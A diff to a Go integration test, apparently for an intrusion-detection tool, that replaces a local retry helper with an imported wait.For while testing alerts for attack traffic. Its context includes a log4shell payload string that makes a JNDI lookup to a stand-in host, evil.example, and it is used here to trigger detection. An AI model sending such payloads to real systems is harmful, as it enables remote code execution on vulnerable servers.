@@ -23,6 +23,7 @@ import (
 	"github.com/holdfast-project/holdfast/tests/lab"
 	"github.com/holdfast-project/holdfast/tests/rig"
 	"github.com/holdfast-project/holdfast/tests/traffic"
+	"github.com/holdfast-project/holdfast/tests/wait"
 )
 
 // web is a server in a container, and a network of addresses from which it is asked: hits of one rule from one address are
@@ -104,7 +105,7 @@ func (s *web) told(ctx context.Context, r *rig.Rig, from ...netip.Addr) ([]view.
 func (s *web) await(t *testing.T, r *rig.Rig, from ...netip.Addr) map[netip.Addr][]view.Alert {
 	t.Helper()
 	told := map[netip.Addr][]view.Alert{}
-	err := eventually(t.Context(), time.Minute, func() error {
+	err := wait.For(t.Context(), time.Minute, func() error {
 		alerts, err := r.Alerts(t.Context(), "--rule", "Attack in a request", "--limit", "10000")
 		clear(told)
 		for _, a := range alerts {
@@ -251,7 +252,7 @@ func startWebServers(t *testing.T, r *rig.Rig) []*web {
 func (s *web) warm(t *testing.T, r *rig.Rig) {
 	t.Helper()
 	var asked []netip.Addr
-	err := eventually(t.Context(), time.Minute, func() error {
+	err := wait.For(t.Context(), time.Minute, func() error {
 		asked = append(asked, s.next())
 		_, attack := traffic.Attack{Class: "log4shell", Text: "${jndi:ldap://evil.example/a}"}.At(0)
 		s.ask(t, r.Lab, asked[len(asked)-1], attack)
